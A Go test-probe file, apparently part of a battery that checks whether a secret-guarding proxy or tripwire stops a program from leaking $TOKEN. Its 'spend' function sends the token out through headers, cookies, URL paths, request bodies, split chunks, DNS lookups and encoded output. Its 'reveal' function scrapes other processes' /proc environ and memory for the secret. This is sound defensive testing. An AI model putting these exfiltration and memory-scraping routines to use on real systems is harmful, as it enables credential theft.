//go:build spend

package main

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"time"
)

// spendProbes are in a build of its own (-tags spend). TLS brings 32 MiB of variables to a program
// (crypto/internal/entropy), and those of cases 80 and 101 begin with little memory.
//
// They are cases 130 and 131: a program that has a secret, or a placeholder of one, in
// $TOKEN brings it elsewhere than to the host that it's for, or looks for the secret itself.
func spendProbes() map[string]probe {
	return map[string]probe{
		"spend":  spend,
		"reveal": reveal,
		"keep":   func(a args) (string, error) { return "", os.WriteFile(kept, []byte(os.Getenv("TOKEN")), 0o600) },
	}
}

// kept is the file in the workspace in which a call leaves its placeholder for a later one.
const kept = "kept"

// httpClient asks over HTTP/2 where that is spoken, or not at all.
func httpClient(two bool) *http.Client {
	t := &http.Transport{ForceAttemptHTTP2: two, DisableCompression: true}
	if !two {
		t.TLSNextProto = map[string]func(string, *tls.Conn) http.RoundTripper{}
	}
	return &http.Client{Timeout: waited, Transport: t}
}

// request makes a request and returns what came back: the head's echo, and the body.
func request(c *http.Client, method, url string, headers map[string]string, body io.Reader) (string, error) {
	r, err := http.NewRequest(method, url, body)
	if err != nil {
		return "", err
	}
	for name, v := range headers {
		r.Header.Set(name, v)
	}
	res, err := c.Do(r)
	if err != nil {
		return "", timeout(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	if err != nil {
		return "", err
	}
	text := res.Header.Get("X-Echo") + " " + string(b)
	if res.StatusCode/100 != 2 && res.StatusCode != http.StatusNotFound {
		return text, said(fmt.Sprintf("HTTP%d", res.StatusCode))
	}
	return text, nil
}

// spend brings $TOKEN somewhere in the way that how names. Where a tripwire is, it's given the time
// to fire before the probe has its last word.
func spend(a args) (detail string, err error) {
	token := os.Getenv("TOKEN")
	host, other := "https://"+string(a.bytes("host")), string(a.bytes("other"))
	c := httpClient(a.word["h1"] == "")
	bearer := map[string]string{"Authorization": "Bearer " + token}
	switch how := a.str("how"); how {
	case "host":
		detail, err = request(c, "GET", "https://"+other+"/", bearer, nil)
	case "plain":
		detail, err = request(c, "GET", "http://"+other+"/", bearer, nil)
	case "header":
		detail, err = request(c, "GET", host+"/echo", map[string]string{"X-Other": token}, nil)
	case "cookie":
		detail, err = request(c, "GET", host+"/echo", map[string]string{"Cookie": "a=" + token}, nil)
	case "agent":
		detail, err = request(c, "GET", host+"/echo", map[string]string{"User-Agent": token}, nil)
	case "path":
		detail, err = request(c, "GET", host+"/"+token, nil, nil)
	case "query":
		detail, err = request(c, "GET", host+"/?a="+token, nil, nil)
	case "body":
		detail, err = request(c, "POST", host+"/sum", nil, strings.NewReader("a="+token))
	case "split": // over two frames or chunks
		r, w := io.Pipe()
		go func() {
			io.WriteString(w, token[:len(token)/2])
			time.Sleep(100 * time.Millisecond)
			io.WriteString(w, token[len(token)/2:])
			w.Close()
		}()
		detail, err = request(c, "POST", host+"/sum", nil, r)
	case "method":
		detail, err = request(c, "POST", host+"/private/echo", bearer, strings.NewReader("x"))
	case "else": // another path than the use's
		detail, err = request(c, "GET", host+"/echo", bearer, nil)
	case "part":
		detail, err = request(c, "GET", host+"/private/echo", map[string]string{"Authorization": "Bearer x" + token}, nil)
	case "dns":
		_, err = net.DefaultResolver.LookupHost(context.Background(), token+"."+other)
		if err != nil && strings.Contains(err.Error(), "no such host") {
			err = said("NXDOMAIN")
		}
	case "output":
		fmt.Println(token)
	case "errors":
		fmt.Fprintln(os.Stderr, token)
	case "base64":
		fmt.Println(base64.StdEncoding.EncodeToString([]byte(token)))
	case "hex":
		fmt.Println(hex.EncodeToString([]byte(token)))
	case "replay":
		b, rerr := os.ReadFile(kept)
		if rerr != nil {
			return "", rerr
		}
		_, err = request(c, "GET", host+"/private/echo", map[string]string{"Authorization": "Bearer " + string(b)}, nil)
	default:
		return "", fmt.Errorf("no way named %q", how)
	}
	if a.word["inside"] != "" {
		time.Sleep(waited)
	}
	return detail, err
}

// secretLike is how the battery's secret begins and ends, but not its placeholders.
var secretLike = regexp.MustCompile("batter" + "y-[A-Z2-7]{26}")

// reveal looks for the secret that the host gets: in what it says back, or where it could be kept.
func reveal(a args) (detail string, err error) {
	token := os.Getenv("TOKEN")
	c := httpClient(a.word["h1"] == "")
	echoed, err := request(c, "GET", "https://"+string(a.bytes("host"))+"/private/echo", map[string]string{"Authorization": "Bearer " + token}, nil)
	if err != nil {
		return "", err
	}
	switch how := a.str("how"); how {
	case "echo":
		fmt.Println(echoed)
	case "environ", "memory":
		found, processes := "", []string{"/proc/self"} // it has the secret outside
		if a.word["inside"] != "" {
			processes = all("/proc/[0-9]*")
		}
		for _, dir := range processes {
			if how == "environ" {
				b, _ := os.ReadFile(dir + "/environ")
				found += string(secretLike.Find(b))
				continue
			}
			found += inMemory(dir)
		}
		if found == "" {
			return "", said("NOTFOUND")
		}
		fmt.Println(found)
	default:
		return "", fmt.Errorf("no way named %q", how)
	}
	if a.word["inside"] != "" {
		time.Sleep(waited)
	}
	return "", nil
}

func all(pattern string) []string {
	list, err := filepath.Glob(pattern)
	if err != nil {
		panic("attack: internal error: " + err.Error())
	}
	return list
}

// inMemory is the secret in a process's memory, as far as that can be read.
func inMemory(dir string) string {
	maps, err := os.ReadFile(dir + "/maps")
	if err != nil {
		return ""
	}
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return ""
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n != 3 || mode[0] != 'r' || to-from > 64<<20 {
			continue
		}
		b := make([]byte, to-from)
		n, _ := mem.ReadAt(b, from)
		if found := secretLike.Find(b[:n]); found != nil {
			return string(found)
		}
	}
	return ""
}
